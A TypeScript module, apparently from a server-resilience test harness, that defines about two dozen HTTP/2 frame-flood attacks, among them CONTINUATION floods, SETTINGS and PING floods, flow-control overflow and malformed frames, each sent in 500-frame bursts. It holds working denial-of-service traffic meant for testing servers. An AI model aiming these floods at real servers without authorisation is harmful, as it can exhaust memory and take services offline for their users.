import { type Flood, flood } from "../../clients/flood.ts";
import {
  flags,
  frame,
  headerBlock,
  headers,
  settings,
  settingsAck,
  types,
  windowUpdate,
  word,
} from "../../clients/http2-frames.ts";
import { getFields, postFields, rpcPath } from "../../clients/requests.ts";
import type { Attack } from "../../harness/attack.ts";

const FRAMES = 500;

/** Bursts that repeat one frame. */
const same = (one: Uint8Array): Pick<Flood, "burst" | "frames"> => {
  const burst = Buffer.concat(Array<Uint8Array>(FRAMES).fill(one));
  return { burst: () => burst, frames: FRAMES };
};

/** HEADERS of a call whose body has not been sent. */
const opening = headers(1, postFields(rpcPath, "application/grpc"), flags.endHeaders);

/** HEADERS without END_HEADERS, which CONTINUATION frames must follow. */
const unfinished = headers(1, getFields, 0);
const sixteenKilobytes = headerBlock([["x", "a".repeat(16_000)]]);

const floods: Readonly<Record<string, Flood>> = {
  "endless CONTINUATION": {
    opening: unfinished,
    ...same(frame(types.continuation, 0, 1, headerBlock([["x", "a".repeat(1_000)]]))),
  },
  "CONTINUATION of 16 KB": {
    opening: unfinished,
    frames: 1,
    burst: () => frame(types.continuation, 0, 1, sixteenKilobytes),
  },
  "empty CONTINUATION": { opening: unfinished, ...same(frame(types.continuation, 0, 1)) },
  "aborted CONTINUATION": {
    opening: unfinished,
    ...same(frame(types.continuation, 0, 1, headerBlock([["x", "a".repeat(100)]]))),
    breakAfter: 1,
    lawful: true,
  },
  SETTINGS: same(settings([3, 100])),
  "empty SETTINGS": same(settings()),
  "SETTINGS of 100 entries": same(settings(...Array.from({ length: 100 }, (_, i) => [3, i] as const))),
  "unsolicited SETTINGS ACK": same(settingsAck),
  PING: same(frame(types.ping, 0, 0, Buffer.alloc(8))),
  "unsolicited PING ACK": same(frame(types.ping, flags.ack, 0, Buffer.alloc(8))),
  PRIORITY: same(frame(types.priority, 0, 1, Buffer.concat([word(0), Buffer.from([16])]))),
  "self-dependent PRIORITY": same(frame(types.priority, 0, 3, Buffer.concat([word(3), Buffer.from([16])]))),
  "empty DATA": { opening, ...same(frame(types.data, 0, 1)) },
  "padding-only DATA": {
    opening,
    ...same(frame(types.data, flags.padded, 1, Buffer.from([9, ...Array(9).fill(0)]))),
  },
  "DATA on stream 0": same(frame(types.data, 0, 0, [0])),
  "WINDOW_UPDATE of the connection": same(windowUpdate(0, 1)),
  "WINDOW_UPDATE of a stream": { opening, ...same(windowUpdate(1, 1)) },
  "flow-control window overflow": same(windowUpdate(0, 0x7fff_ffff)),
  "unknown frame types": same(frame(0x77, 0, 0, Buffer.alloc(16))),
  PUSH_PROMISE: { opening, ...same(frame(types.pushPromise, flags.endHeaders, 1, word(2))) },
  "repeated GOAWAY": same(frame(types.goaway, 0, 0, Buffer.alloc(8))),
  "oversized frames": { frames: 1, burst: () => frame(types.data, 0, 1, Buffer.alloc(65_536)) },
  "even stream identifiers": same(headers(2, getFields)),
  "garbage after the preface": { frames: 1, burst: () => Buffer.alloc(16_384, 0xa7) },
};

export const http2Floods: readonly Attack[] = Object.entries(floods).map(([name, options]) => ({
  name,
  row: name.includes("CONTINUATION") ? (options.breakAfter === undefined ? "H2-3" : "H2-4") : "H2-5",
  memory: 64,
  run: (context) => flood(context, options),
}));
